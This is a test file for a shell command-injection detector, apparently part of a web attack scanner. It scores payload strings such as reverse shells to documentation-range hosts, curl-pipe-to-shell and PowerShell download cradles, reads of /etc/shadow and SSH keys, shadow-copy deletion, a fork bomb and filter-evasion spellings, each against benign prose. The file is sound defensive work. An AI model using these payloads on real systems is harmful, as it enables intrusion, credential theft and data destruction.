import { describe, expect, test } from "bun:test";
import { shellAnalyzer } from "../../../src/detect/analyzers/shell.ts";
import { evidence, junk, strength, strongest } from "./helpers.ts";

const s = (text: string) => strength(shellAnalyzer, text);

describe("shell analyzer", () => {
  test("a separator followed by a command is command injection", () => {
    for (const v of [";id;", "1;id", "127.0.0.1|whoami", "x && wget http://198.51.100.7/a.sh", "a\nuname -a", "'; cat /etc/passwd #", "|| ping -c 3 10.0.0.1"]) {
      expect(s(v)).toBeGreaterThanOrEqual(0.8);
    }
    expect(strongest(shellAnalyzer, "1;id")!.class).toBe("cmdi");
  });

  test("an apostrophe that never closes is prose, not a quoted argument", () => {
    expect(s("id's notes")).toBeLessThan(0.5);
    expect(s("id'is notes")).toBeLessThan(0.5);
    expect(s("x;echo 'hi there'")).toBeGreaterThanOrEqual(0.8);
  });

  test("a value that opens with a separator ends a command: a command with plain words after it counts more there", () => {
    for (const v of [";echo vulnerable", "& echo hacked &", "'| ping attacker"]) expect(s(v)).toBeGreaterThanOrEqual(0.6);
    // Plain words stay below proof strength (a search may start with `&`), and a text's first line break opens nothing.
    expect(s("&whois lookup")).toBeLessThan(0.85);
    expect(s("\nCmd line tools are great")).toBe(s("x\nCmd line tools are great"));
    // The same words after text are prose's semicolon more often.
    expect(s("ok; echo vulnerable")).toBeLessThan(0.5);
  });

  test("a command that is also a word, a system file, then a sentence: someone writing about the file", () => {
    for (const v of ["cat /proc/cpuinfo shows 4 cores but your app only uses 1.", "cat /etc/hosts equivalent on windows"]) expect([v, s(v)]).toEqual([v, 0.55]);
    // Fewer words, another path, a flag, or a tool: a command line.
    for (const v of ["cat /etc/hosts shows nothing", "cat /etc/passwd /etc/shadow now", "ls -la /etc please help me", "cat /etc/passwd x y", "cat /etc/hosts aa bb cc"]) expect([v, s(v)]).toEqual([v, 0.9]);
    // A credential, a key or a log is read whatever words follow it.
    for (const v of ["cat /etc/shadow and show the rest", "tail /var/log/auth.log and then nothing else", "type C:\\Windows\\win.ini shows nothing else here"]) expect([v, s(v)]).toEqual([v, 0.9]);
  });

  test("Windows' own tools take plain words for their verbs: after a separator they are proof", () => {
    for (const v of ["& netsh firewall set opmode disable", "& wmic process call create calc", "x & vssadmin list shadows"]) expect([v, s(v)]).toEqual([v, 0.85]);
    // A Unix tool's name may be a search's word (`&whois lookup`), a shell's a product's: plain words after them stay weaker.
    for (const v of ["x & whois lookup", "Mac & Cmd key shortcuts", "Skills: Bash & PowerShell scripting", "Elixir & iex shell tips"]) expect([v, s(v) < 0.85]).toEqual([v, true]);
  });

  test("an address or host name before the separator is what a ping or lookup form was given", () => {
    for (const v of ["8.8.8.8;id", "8.8.8.8|id", "google.com;id", "8.8.8.8\nid", "127.0.0.1; ps aux", "8.8.8.8; touch pwned", "'10.0.0.1' && uname"]) {
      expect([v, s(v)]).toEqual([v, 0.9]);
    }
    // A site's name before a spaced pipe is a title's (`Example.com | Find a home`), and one word is no host;
    // plain words on the line after an address or a version number are a text's.
    for (const v of ["Example.com | Find your next home", "Amazon.com | sort by price", "menu | sort by price", "10.0.0.5\nservice restarted after the update", "1.0.0.0\ntest fixes"]) {
      expect([v, s(v)]).toEqual([v, 0.4]);
    }
  });

  test("a comment after the command drops the rest of the line it was put into; a hashtag is no comment", () => {
    for (const v of ["a; id #", "photo.jpg\"; id #", "x'; id #'", "1 && uname -a # x"]) expect(s(v)).toBeGreaterThanOrEqual(0.85);
    expect(s("eat; sleep #life")).toBeLessThan(0.5);
    // A comment that says something is prose's `#`.
    for (const v of ["Bench press 3x10; set # 2 was hard", "Step 1 passed\ntest # 2 failed"]) expect([v, s(v)]).toEqual([v, 0.4]);
    expect(s("work; sleep; repeat #devlife #mood")).toBe(s("work; sleep; repeat"));
  });

  test("a quoted plain word or a heart after a command that is also a word is a sentence's", () => {
    for (const v of ['Deliver to rear entrance & call "Mike" <ext. 42>', "Ring the bell & call me <3", 'Go to Settings & type "reset"', 'Open the app & find "Account"']) {
      expect([v, s(v)]).toEqual([v, 0.4]);
    }
    // What the quotes hold decides: a path, a command's own output, or a tool.
    for (const v of ['; cat "/etc/passwd"', ';echo "pwned"', '| find "password" *.txt', '& type "C:\\windows\\win.ini"', ";cat 'e'tc", "x; sh <&3 >&3"]) expect([v, s(v)]).toEqual([v, 0.85]);
  });

  test("service control and mount commands", () => {
    // Payloads judged as a form's values, never run.
    for (const v of ["127.0.0.1; service cron status", "127.0.0.1; mount", "8.8.8.8 & sc query", "x & sc qc WinDefend"]) expect(s(v)).toBeGreaterThanOrEqual(0.7);
    // Addresses and prose put numbers after these words: a number is no argument of theirs.
    for (const v of ["123 Main St\nColumbia\nSC 29201", "Great food; service 24/7", "Mount Vernon; mount 3"]) expect([v, s(v)]).toEqual([v, 0.4]);
  });

  test("a Windows program's file name is what a runner is given to run, not a word", () => {
    for (const v of ["; Start-Process calc.exe", "| start-process notepad.exe", "; msiexec evil.msi", "& wscript payload.vbs", "; mshta x.hta"]) expect([v, s(v)]).toEqual([v, 0.9]);
    // After a command that is also a word, a sentence's (`download & start setup.exe`).
    expect(s("Please download & start setup.exe from the site")).toBeLessThan(0.5);
    // A Windows tool takes plain words for its verbs and names (`Start-Process calc`): no sentence runs one.
    expect(s("; Start-Process calc")).toBe(0.85);
    // `.com` is every domain's ending, no program's.
    for (const v of ["curl example.com", "nslookup shop.example.com", "; ping example.com"]) expect([v, s(v)]).toEqual([v, s(v.replace(".com", ".org"))]);
  });

  test("numbers are shell arguments of a command that is also a word when they are all it has, or what it acts on", () => {
    for (const v of [";sleep 5", "x;ping 10.0.0.1", "1;kill 9 1234", "1|timeout 9 id", "127.0.0.1;sleep 10 x", ";ping 1.2.3.4 x"]) expect(s(v)).toBeGreaterThanOrEqual(0.8);
    // A tool's number among words is still its argument (a port).
    expect(s("x;nc attacker.example 4444")).toBeGreaterThanOrEqual(0.85);
    for (const v of ["see me at 10am; call back at 2", "ok; type in your 4 digits", "fine; find me at 5", "H&M; top 10 deals", "Concert; date 06/15, time 8pm"]) expect(s(v)).toBeLessThan(0.5);
  });

  test("markup's character references: the `&` of a named one separates no command, the `;` that closes one still does", () => {
    for (const v of ["<footer><p>&copy; 2024 Example Inc.</p></footer>", "<p>Acme&reg; Widget Pro</p>", "a&#38;b&#x26;c"]) expect(s(v)).toBe(0);
    expect(s("x&id;")).toBeGreaterThan(0);
    expect(s("a&copy /etc/passwd x")).toBeGreaterThanOrEqual(0.8);
    // The `;` that closes a reference still separates: a shell runs `127.0.0.1 &`, `gt;`, then `id`.
    expect(s("127.0.0.1&gt;id")).toBe(s("x;id"));
    expect(s("x;id")).toBeGreaterThan(0.5);
    for (const v of ["127.0.0.1&lt;nc 203.0.113.5 4444 -e /bin/bash", "1&lt;whoami", "ab&copy;whoami", "&gt;;dash -c id"]) expect(s(v)).toBeGreaterThanOrEqual(0.8);
  });

  test("Markdown: a fence line opens no substitution, and a word-command quoted in a sentence or a code block is weak", () => {
    expect(s("```python\nprint(1)\n```")).toBe(0);
    for (const v of ["The `ls` command lists files.", "Type `date` to see the time, then save."]) expect(s(v)).toBe(0.55);
    // With arguments, quoted in a sentence or not, a command: backticks run inside a quoted string too.
    for (const v of ["please `cat config.php` for me", "how does `cp config.php config.txt` work here"]) expect(s(v)).toBeGreaterThanOrEqual(0.8);
    expect(s("Try this:\n```\nls\n```\nthanks")).toBeLessThanOrEqual(0.5);
    // Backticks where a shell word begins, at the value's end, in too short a sentence, around a tool or
    // a shell's arguments, or three of them inside a line (an empty substitution, then one): commands.
    for (const v of ["x`id`", "; `id`", "test `whoami`", "ab `id` ok", "ab `nc 203.0.113.5 4444 -e /bin/bash` ok", "x```whoami```", "host=127.0.0.1```nc 203.0.113.5 4444 -e /bin/sh```"]) expect(s(v)).toBeGreaterThanOrEqual(0.7);
    expect(s("see `c''at /etc/passwd` now")).toBeGreaterThanOrEqual(0.9);
    // Lines of a code block: a tool, or a shell's arguments, stay commands; so does a block never closed.
    expect(s("Hi team, logs below\n```\nnc 203.0.113.5 4444 -e /bin/bash\n```\nthanks")).toBeGreaterThanOrEqual(0.85);
    expect(s("Thanks for the help\n```\nid")).toBeGreaterThanOrEqual(0.55);
  });

  test("a spreadsheet's DDE call in a cell runs a program when an exported CSV is opened", () => {
    for (const v of ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "name,email\n=cmd|' /C calc'!A0,a@b.c", '"x",+msexcel|\'\\..\\..\\Windows\\System32\\cmd.exe /c calc\'!A1']) expect([v, s(v)]).toEqual([v, 0.9]);
    for (const v of ["=SUM(A1:A3)", "name,email,total", "Hey!! is it 'x'|'y' !", "a|'b'!"]) expect([v, s(v)]).toEqual([v, 0]);
  });

  test("socat joining a network address to a program is a reverse or bind shell", () => {
    for (const v of [";socat tcp-connect:10.10.14.7:9001 exec:sh,pty,stderr,setsid", "socat TCP:10.0.0.1:4242 EXEC:'bash -li',pty", "x|socat TCP-LISTEN:4444,fork SYSTEM:id"]) expect([v, strongest(shellAnalyzer, v)?.rule, s(v)]).toEqual([v, "shell.socat-shell", 0.9]);
    expect(strongest(shellAnalyzer, "I use socat for port forwarding: TCP-LISTEN:80")?.rule).not.toBe("shell.socat-shell");
  });

  test("system tools that are no English word, after a separator", () => {
    for (const v of [";rmt --version", ";flock -u / whoami", "x;ldd /bin/sh", "1|lsmod", ";chattr -i /etc/passwd", "a&&tcpdump -i eth0"]) expect(s(v)).toBeGreaterThanOrEqual(0.8);
  });

  test("substitutions run commands: $(...), backticks, <(...)", () => {
    expect(s("$(whoami)")).toBeGreaterThanOrEqual(0.9);
    expect(s("name`uname -a`")).toBeGreaterThanOrEqual(0.9);
    // A word in backticks is also how prose quotes code (`ls`): a substitution, but not a strong one alone.
    expect(s("name`id`")).toBe(0.7);
    expect(s("x <(curl -s http://x/y)")).toBeGreaterThanOrEqual(0.9);
  });

  test("commands hidden by quotes, escapes, carets, empty variables, globs and `${PATH:0:1}` are read as the shell reads them", () => {
    for (const v of [";w'h'o'am'i", ";wh\\oami", ";c\"\"at /etc/passwd", ";c$u\\at /etc/passwd", ";/???/c?t /etc/passwd", "&w^h^o^a^m^i", ";cat${IFS}/etc/passwd", ";cat$IFS$9/etc/passwd", ";{cat,/etc/passwd}", ";${PATH:0:1}bin${PATH:0:1}id"]) {
      expect(s(v)).toBeGreaterThanOrEqual(0.85);
    }
    expect(strongest(shellAnalyzer, ";w'h'o'am'i")!.rule).toBe("shell.obfuscated-command");
    // Empty substitutions inside the word: ``` `` ``` and `$()` run nothing and leave the word whole.
    for (const v of ["pi``ng 127.0.0.1", "pi$()ng 127.0.0.1", ";c$()at /etc/passwd", "x;w``hoami"]) expect(s(v)).toBeGreaterThanOrEqual(0.85);
    expect(s("a `` b")).toBe(0);
  });

  test("a command spaced from its arguments by ${IFS} or $IFS is the shell's alone, at the start of a value too", () => {
    for (const v of ["echo${IFS}pwned", "cat${IFS}/etc/passwd", "ls$IFS$9-la", "x;echo${IFS}hi", "1|sleep${IFS}5"]) {
      expect(strongest(shellAnalyzer, v)).toMatchObject({ rule: "shell.obfuscated-command", strength: 0.9 });
    }
    // ${IFS} that spaces no command, and a command word that ${IFS} does not touch, stay as they were.
    expect(s("price${IFS}")).toBe(0);
    expect(s("cat ${IFS}")).toBe(0);
  });

  test("reconnaissance commands of Windows and Unix after a separator", () => {
    for (const v of ["| timeout /T 10", "& arp -a", "|nltest /domain_trusts", "; df -h", "&& vssadmin delete shadows /all /quiet", "; whereis -b nc"]) expect(s(v)).toBeGreaterThanOrEqual(0.8);
  });

  test("Windows commands, by absolute path too", () => {
    expect(s("& C:\\Windows\\System32\\cmd.exe /c dir")).toBeGreaterThanOrEqual(0.9);
    expect(s("| powershell -enc SQBFAFgA")).toBeGreaterThanOrEqual(0.9);
    expect(s("& net user hacker P4ss /add")).toBeGreaterThanOrEqual(0.8);
    // A registry hive is an argument only reg and PowerShell take.
    for (const v of ["& reg query HKLM\\Software", "| reg add HKCU\\Software\\x /v y", "1;reg query HKEY_LOCAL_MACHINE\\SYSTEM"]) expect(s(v)).toBeGreaterThanOrEqual(0.85);
    expect(s("see the reg; reg form")).toBeLessThan(0.5);
  });

  test("cmd.exe spellings: carets before every letter, quotes in a name (the last one unclosed), %ComSpec% and %SystemRoot% paths", () => {
    for (const v of ["& ^w^h^o^a^m^i", '& w"h"o"a"m"i', "& %COMSPEC% /c whoami", "& %SystemRoot%\\system32\\cmd.exe /c whoami"]) expect([v, s(v)]).toEqual([v, 0.9]);
    // A regular expression's anchor, and carets that spell no command.
    for (const v of ["^abc$", "^[a-z]+$", "x & ^note^s"]) expect(s(v)).toBe(0);
  });

  test("redirection to /dev/tcp, Shellshock and server-side includes", () => {
    expect(strongest(shellAnalyzer, "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")!.rule).toBe("shell.dev-tcp");
    expect(strongest(shellAnalyzer, "() { :; }; /bin/bash -c id")!.rule).toBe("shell.shellshock");
    const ssi = strongest(shellAnalyzer, '<!--#exec cmd="ls" -->')!;
    expect([ssi.rule, ssi.strength]).toEqual(["shell.ssi", 0.95]);
    expect(s('<!--#include virtual="/etc/passwd" -->')).toBeGreaterThanOrEqual(0.8);
  });

  test("Edge Side Includes, which a cache in front of the site runs", () => {
    const esi = strongest(shellAnalyzer, '<esi:include src="http://198.51.100.7/"/>')!;
    expect([esi.rule, esi.strength]).toEqual(["shell.esi", 0.9]);
    expect(s("x<esi:vars>$(HTTP_COOKIE)</esi:vars>")).toBe(0.85);
    expect(s('<!--esi <esi:assign name="a" value="$(HTTP_HOST)"/> -->')).toBe(0.85);
    expect(s("<esi:choose><esi:when test=\"1==1\">x</esi:when></esi:choose>")).toBe(0.8);
    // A tag named in prose fetches nothing, prints nothing, and is not closed.
    for (const v of ["ESI tags such as esi:include are what Varnish reads", "Our CDN supports <esi:include> tags for fragments"]) expect([v, s(v)]).toEqual([v, 0]);
    // An element closed on itself is markup to run: the cache prints its debug page or its variables.
    for (const v of ["<esi:debug/>", "x<esi:vars />", "<ESI:Debug\t/>"]) expect([v, s(v)]).toEqual([v, 0.8]);
    // A page author's note, which the cache drops.
    expect(s('<esi:comment text="cache for 5m"/>')).toBe(0);
    expect(s("Our CDN reads <esi:include> and <esi:debug> tags / elements")).toBe(0);
    // Linear on hostile repetition.
    expect(s("<esi:a>".repeat(150_000))).toBe(0);
    expect(s(`<esi:include ${"a".repeat(190)}`.repeat(5_000))).toBe(0);
  });

  test("a value that is the whole command counts only with shell syntax around it", () => {
    expect(s("nc -e /bin/sh 198.51.100.7 4444")).toBe(0.9);
    expect(s("cat /etc/passwd > /tmp/x")).toBe(0.9);
    expect(s("perl -e 'print 1'")).toBe(0.85);
    expect(s("cat /etc/hosts.allow | grep x")).toBe(0.9);
    expect(s("ls")).toBe(0);
    expect(s("whoami")).toBe(0);
    expect(s("Del Nuevo Mundo S/N")).toBe(0);
  });

  test("a command line aimed at the system: system paths, the root, glob paths as arguments", () => {
    for (const v of ["cat /etc/passwd", "ls -la /", "find /etc -name shadow", "dd if=/proc/self/environ of=/tmp/x", "cat /etc/pa[s]swd", "more /[e]tc/issue", "type C:\\Windows\\win.ini"]) {
      expect(s(v)).toBe(0.9);
    }
    // The same words as prose, with a slash that is no path.
    for (const v of ["date / time", "which / what", "cat and dog", "ls is short for list", "set the time", "Find /Search"]) {
      expect(s(v)).toBeLessThan(0.8);
    }
    // A relative path to a file stays a path.
    for (const v of ["; cat config/database.yml", ";cat WEB-INF/web.xml", ";more a/b/c"]) expect([v, s(v)]).toEqual([v, 0.85]);
    // A slash inside a word of prose after a separator, and after a path's segment (the rest of a route is no argument).
    for (const v of ["hello; move them and/or that", "ok; find the docs at example.com/help", "ok; find the docs at example.com/index.html", "yes; sort by date/time", "/search/put tags in your template; move them to a bundle./details"]) {
      expect([v, s(v) < 0.8]).toEqual([v, true]);
    }
  });

  test("interpreters with inline code, tools with flags or URLs, PowerShell cmdlets", () => {
    expect(s("/usr/bin/python3 -m http.server")).toBe(0.8);
    expect(s("uname -a")).toBe(0.8);
    expect(s("ksh -c 'curl example.com'")).toBe(0.85);
    expect(s("Invoke-WebRequest https://198.51.100.7/a.ps1")).toBe(0.85);
    expect(s("Start-Process -FilePath calc")).toBe(0.85);
    // A word command with plain words stays prose.
    expect(s("sort -price")).toBeLessThan(0.8);
    expect(s("echo hello")).toBe(0);
  });

  test("prefix commands run the command after them", () => {
    expect(s("time sh -c whoami")).toBe(0.85);
    expect(s("nohup ifconfig")).toBe(0.8);
    expect(s("x;sudo whoami")).toBeGreaterThanOrEqual(0.85);
    expect(s("time flies")).toBe(0);
  });

  test("command names spelled to dodge filters, as a whole value", () => {
    for (const v of ["'wh'oami", "'c'url localhost", "cu$@rl example.com", "/???/??t /etc/issue", "/???/?s", "/usr/[a-z]in/bash", "$SHELL -c 'echo hi'", "${SHELL} -c id", "{,ifconfig}", "{cat,/etc/passwd}"]) {
      expect(s(v)).toBeGreaterThanOrEqual(0.85);
    }
    // Quotes around a whole word, a field list in braces, an apostrophe in a name.
    for (const v of ["\"ls\"", "{id,name}", "O'keefe's"]) expect(s(v)).toBeLessThan(0.8);
  });

  test("$0 names the shell that runs the line, as $SHELL names the user's", () => {
    for (const v of [";$0 -c id", "echo id|$0", "x;${0} -c 'cat /etc/passwd'", ";$0${IFS}-c${IFS}id", ";{$0,-c,id}"]) expect(s(v)).toBeGreaterThanOrEqual(0.85);
    // Either parameter ends its word at `${IFS}`, a quote or a brace expansion's comma.
    for (const v of [";$SHELL${IFS}-c${IFS}id", ";$SHELL$IFS-c$IFS'id'", ";{$SHELL,-c,id}"]) expect(s(v)).toBeGreaterThanOrEqual(0.85);
    // Prices, a value that opens with one among them, a positional parameter with more digits, one longer word.
    for (const v of ["costs $0 today", "$0 - $50", "$0 | Free", "$0 fee; cancel anytime", "a;$01 b", "x\n$0$h"]) expect(s(v)).toBeLessThan(0.8);
  });

  test("a word of empty expansions before a command is dropped, as the shell drops it", () => {
    for (const v of [";$a cat /etc/passwd", "1;${x} id", "|$@ wget http://198.51.100.7/a", "$u whoami", ";$a $b cat /etc/passwd", ";$u $u $u id", "${u} ${v} ${w} whoami", ";{$u,cat,/etc/passwd}"]) {
      expect(s(v)).toBeGreaterThanOrEqual(0.85);
    }
    expect(strongest(shellAnalyzer, ";$a cat /etc/passwd")!.rule).toBe("shell.obfuscated-command");
    // Prices and parameters that give text are no empty word; a lone variable names no command.
    for (const v of ["Bought toys; $5 cat food", "; $? id", "$a", "$a;"]) expect(s(v)).toBeLessThan(0.5);
  });

  test("cd and trap are shell builtins: a chain's first step, a command run on a signal", () => {
    expect(s(";cd /tmp;wget http://198.51.100.7/a")).toBeGreaterThanOrEqual(0.9);
    expect(s("{,cd,/etc,}")).toBeGreaterThanOrEqual(0.9);
    expect(s("x;trap 'rm -rf /tmp/x' EXIT")).toBeGreaterThanOrEqual(0.85);
    // Both are English words too, and do nothing without arguments: lists and prose stay quiet.
    for (const v of ["fix; trap door", "Go to cd; cd player", "books; cd; dvd", "media=book;cd;vinyl", "Books|CDs|cd", "genres=hip-hop;trap;house"]) expect(s(v)).toBe(0);
  });

  test("a pipe into a shell runs what came before it", () => {
    expect(s("curl http://198.51.100.7/a.sh | sh")).toBe(0.9);
    expect(s("printf dwssap/cte/ tac | rev | bash")).toBe(0.9);
    // A list of names joined by pipes is no pipeline.
    expect(s("python|php|sh")).toBeLessThan(0.8);
    expect(s("rock | sh")).toBeLessThan(0.8);
  });

  test("closed substitutions around any command; closed backticks around a command with arguments", () => {
    expect(s("x <(cat file)")).toBe(0.9);
    expect(s("$(date)")).toBeGreaterThanOrEqual(0.9);
    expect(s("a`cat notes.txt`")).toBe(0.8);
    expect(s("$(document).ready(f)")).toBe(0);
  });

  test("PowerShell that runs a command no word names: the call operator on an expression, $env:ComSpec, an alias for a runner, [ScriptBlock]::Create, character codes", () => {
    const ps = (text: string) => Math.max(0, ...shellAnalyzer.analyze({ text, location: "query", path: "query.q", name: "q", kind: "value" }).filter((f) => f.rule === "shell.powershell").map((f) => f.strength));
    for (const v of ["; & ('who'+'ami')", "; &(gcm *ke-e*) 'whoami'", "; .($env:ComSpec[4,15,25]-join'') 'whoami'", "; $env:ComSpec /c whoami", "; sal x iex; x 'whoami'"]) {
      expect(ps(v)).toBeGreaterThanOrEqual(0.9);
    }
    // A runner's name read through backticks, and .NET's socket and web clients made.
    for (const v of ["; I`E`X (New-Object Net.WebClient).DownloadString('http://e.example/a')", "; Inv`oke-Exp`ression $x", "| i`ex", ";$c=New-Object Net.Sockets.TCPClient('10.0.0.1',4444)", "x;(New-Object System.Net.WebClient).DownloadFile('http://e.example/a','a.exe')", "; `i`e`x $x", "| po`wer`shell -c id", "; New-Object -Type Net.WebClient", ";$c = New-Object -TypeName 'System.Net.Sockets.TcpListener' 4444", "; New-Object -ComObject WScript.Shell"]) {
      expect([v, ps(v)]).toEqual([v, 0.9]);
    }
    for (const v of ["; Wr`ite-Host hi", "don`t worry", "Use New-Object Net.WebClient to download"]) expect([v, ps(v)]).toEqual([v, 0]);
    // A script may open with a static call too: below proof, for the model to weigh.
    for (const v of ["; ([scriptblock]::Create('whoami')).Invoke()", "x| [System.Diagnostics.Process]::Start('calc')"]) expect(ps(v)).toBe(0.8);
    expect(s("; iex ([char]119+[char]104+[char]111+[char]97+[char]109+[char]105)")).toBeGreaterThanOrEqual(0.8);
    for (const v of [";&(\"{0}{1}\" -f 'who','ami')", "127.0.0.1|[char]0x77+[char]0x68+[char]0x6f"]) expect(ps(v)).toBeGreaterThanOrEqual(0.85);
    // Prose and other languages' `::`, `&` and `$env`; PowerShell quoted in a ticket, with prose before it.
    for (const v of ["Tom & ('Jerry' + friends)", "Use [char]65 in PowerShell", "The ratio is 2::1", "Ben & Jerry's. (new)", "$env:PATH is set", "std::vector<int> v; v.push_back(1);", "Q&A. (see below)"]) expect(s(v)).toBeLessThan(0.5);
    for (const v of ["Please run [Diagnostics.Process]::Start('explorer.exe') to open it", "Primero sal de PowerShell y reinicia", "Try & $env:ComSpec /c \"dir\" in the console", "Set-Alias -Name posh -Value powershell", "Output: [char[]](72,101,108,108,111) -join ''"]) expect(ps(v)).toBe(0);
    // A PowerShell line as the whole value is a script quoted (a ticket that opens with the command it ran).
    for (const v of ["& $env:ComSpec /c dir", "[ScriptBlock]::Create($code).Invoke()", "New-Alias -Name exec -Value Invoke-Expression"]) expect(ps(v)).toBe(0);
    // A ticket's label on its first line, then the command it ran: no injection broke out of a value.
    for (const v of ["Steps:\n[Diagnostics.Process]::Start('notepad.exe')", "Script:\n& $env:ComSpec /c \"mklink /J a b\"", "{\n[Reflection.Assembly]::LoadWithPartialName('x')"]) expect(ps(v)).toBe(0);
    expect(ps("127.0.0.1\n& $env:ComSpec /c whoami")).toBe(0.9);
    expect(ps("127.0.0.1;&([scriptblock]::Create('whoami'))")).toBe(0.9);
    // Only the start of an injected command is read: a long run of line breaks after the separator costs
    // one pass (a pattern that tried a command at every line break took minutes on a megabyte).
    expect(ps(`;${"\n".repeat(1 << 20)}::`)).toBe(0);
  });

  test("cmd.exe batch constructs: FOR loops and IF comparisons of batch variables", () => {
    expect(strongest(shellAnalyzer, "for /f \"tokens=*\" %G in ('dir /b') do echo %G")!.rule).toBe("shell.batch");
    expect(s("FOR /L %%i IN (1,1,9) DO ping 10.0.0.%%i")).toBe(0.9);
    expect(s("IF \"%~1\" == \"\" (EXIT /B 1)")).toBe(0.8);
    for (const v of ["for the kids in (new) do it", "if 50% == half", "If not defined, the default is used"]) expect(s(v)).toBe(0);
  });

  test("a substitution that only redirects a file in reads it into the command line: `cat` without `cat`", () => {
    for (const v of ["$(</etc/passwd)", "$(<\\/etc/passwd)", "x$(< /etc/shadow)", "`</etc/passwd`", "$(<~/.ssh/id_rsa)", "a $(< ./config.php) b"]) {
      expect([v, strongest(shellAnalyzer, v)?.rule, s(v)]).toEqual([v, "shell.substitution", 0.9]);
    }
    // Not closed, it still reads the file if the rest of the command line closes it.
    expect(s("$(</etc/passwd")).toBe(0.8);
    // A bare word after `<`, an emoticon or markup in backticks is no path.
    for (const v of ["I <3 $(<) you", "`<b>` tag", "$(<x) y"]) expect([v, s(v)]).toEqual([v, 0]);
    // Linear on hostile repetition.
    expect(s("$(<".repeat(300_000))).toBe(0);
  });

  test("cmd.exe substrings of a variable: a name pieced together from them is a command hidden from a word list", () => {
    const hidden = strongest(shellAnalyzer, "& %COMSPEC:~0,1%%COMSPEC:~-4,1%d /c whoami")!;
    expect([hidden.rule, hidden.strength]).toEqual(["shell.batch-substring", 0.9]);
    expect(evidence(shellAnalyzer, "& %COMSPEC:~0,1%%COMSPEC:~-4,1%d /c whoami")).toBe("%COMSPEC:~0,1%%COMSPEC:~-4,1%");
    expect(s("%ProgramFiles:~10,1%%ProgramFiles:~6,1%")).toBe(0.9);
    // One substring is what a script that trims a string does: batch syntax, weak on its own.
    expect(s("set v=%str:~1,-1%")).toBe(0.6);
    expect(s("%a:~1% and later %b:~2%")).toBe(0.6);
    // The date's, the time's or a random number's pieces change: a batch file's timestamp spells no command.
    for (const v of ["set TIMESTAMP=%DATE:~10,4%%DATE:~4,2%%DATE:~7,2%", "echo %TIME:~0,2%%TIME:~3,2%", "mkdir backup_%date:~-4,4%%date:~3,2%"]) expect([v, s(v)]).toEqual([v, 0]);
    // Percentages and format strings are no substrings.
    for (const v of ["50%:~ok", "up 10%: ~3,5% down", "%s:~%d"]) expect([v, s(v)]).toEqual([v, 0]);
  });

  test("cmd.exe IF forms without batch variables: EXIST, ERRORLEVEL, DEFINED, comparisons, then a block or a command", () => {
    for (const v of ["IF EXIST C:\\pagefile.sys CMD", "if exist data.xls echo found", "IF NOT ERRORLEVEL 0 CMD", "IF CMDEXTVERSION 1 GOTO start", "IF NOT DEFINED BAR (", "if \"A A\" == \"A A\" echo same", "if (1) equ (1) echo hey"]) {
      expect(strongest(shellAnalyzer, v)!.rule).toBe("shell.batch");
    }
    // Prose has the words, not what IF runs after them.
    for (const v of ["if not defined (see below)", "if you exist type your name", "if errorlevel 1 we fail", "if x == y then"]) expect(s(v)).toBe(0);
  });

  test("cmd.exe FOR loops with a long loop variable or parentheses inside the set", () => {
    expect(s("for /l %variable in (1,1,2) do command")).toBe(0.9);
    expect(s("& for /f \\\"delims=\\\" %i in ('cmd /c \\\"set /a (63+21)\\\"') do @set /p = X%iX< nul")).toBe(0.9);
  });

  test("a command spelled by joining variables assigned a letter at a time", () => {
    expect(strongest(shellAnalyzer, "c4=\\ ;c3=t;c2=a;c1=c;a1=/;a2=e;$c1$c2$c3$c4$a1$a2")!.rule).toBe("shell.variable-command");
    expect(s("a=wh;b=oami;$a$b")).toBe(0.9);
    // Joined values that name no command, and a join of unassigned variables.
    for (const v of ["x=hel;y=lo;$x$y", "a=1;b=2;$a$b", "echo $HOME$PATH"]) expect(s(v)).toBeLessThan(0.8);
  });

  test("special parameters inside a command word are filler", () => {
    for (const v of [";c$?at /etc/passwd", ";c$-at /etc/passwd", ";wh$$oami"]) expect(s(v)).toBeGreaterThanOrEqual(0.85);
    expect(s("costs US$-5 today")).toBe(0);
  });

  test("tools that stacks and tag lists name: strong with shell arguments, weak as list items", () => {
    expect(s("time; ansible all -m ping")).toBeGreaterThanOrEqual(0.85);
    expect(s("ansible all -m ping")).toBeGreaterThanOrEqual(0.8);
    expect(s("php; mysql; docker")).toBeLessThanOrEqual(0.5);
    expect(s("skills: docker, kubectl")).toBe(0);
  });

  test("a fork bomb: a function that calls itself in a pipe or the background, then is called", () => {
    expect(strongest(shellAnalyzer, ":(){ :|:& };:")!.rule).toBe("shell.fork-bomb");
    expect(s("boom(){ boom|boom& }; boom")).toBe(0.9);
    expect(s("f(){ echo hi; }; f")).toBe(0);
  });

  test("a line break written as the escape \\n or \\r separates commands", () => {
    for (const v of ["\\nid\\n", ";id\\n", "\\n/bin/ls -al\\n", "1\\r\\nwhoami"]) expect(s(v)).toBeGreaterThanOrEqual(0.8);
    // A Windows path has backslashes before letters, and prose written with escapes keeps its words.
    for (const v of ["C:\\new\\nid", "C:\\Users\\nick\\notes.txt", "Hello\\nid like that"]) expect(s(v)).toBeLessThan(0.5);
  });

  test("a command stored in a variable, then run by expanding it at a command position", () => {
    for (const v of ["CMD=$'id';$CMD", "|X=whoami&&${X}", ";C=$\"ls -la /\";$C"]) {
      expect(s(v)).toBe(0.9);
      expect(strongest(shellAnalyzer, v)!.rule).toBe("shell.variable-command");
    }
    expect(evidence(shellAnalyzer, "x;CMD=$'id';$CMD")).toBe("CMD=$'id';$CMD");
    // An assignment and a variable that is no command position, or a stored value that is no command.
    for (const v of ["price=$5;$10", "x=5;$x.show()", "a=1;b=$a", "x=hello;$x"]) expect(s(v)).toBeLessThan(0.8);
  });

  test("cmd.exe environment variables are shell arguments", () => {
    expect(s("| type %SYSTEMROOT%\\repair\\SAM")).toBeGreaterThanOrEqual(0.85);
    expect(s("type %WINDIR%\\win.ini")).toBe(0.9);
    for (const v of ["type 100% cotton", "& set %d items", "more than 50% off"]) expect(s(v)).toBeLessThan(0.8);
  });

  test("a path with `+` for spaces is judged as a server that decodes them reads it", () => {
    const path = (text: string) => Math.max(0, ...shellAnalyzer.analyze({ text, location: "path", path: "path", name: "", kind: "path" }).map((f) => f.strength));
    expect(path("/files/|+uname+-a")).toBeGreaterThanOrEqual(0.8);
    expect(path("/search/c++;about+us")).toBeLessThan(0.5);
    // A value's `+` is a plus to the shell; the second reading, with spaces, is every analyzer's (registry.test.ts).
    expect(s("|+uname+-a")).toBeLessThan(0.8);
  });

  test("a command injected into a path segment is judged from the segment's start, as a value's would be", () => {
    const found = (text: string) => shellAnalyzer.analyze({ text, location: "path", path: "path", name: "", kind: "path" });
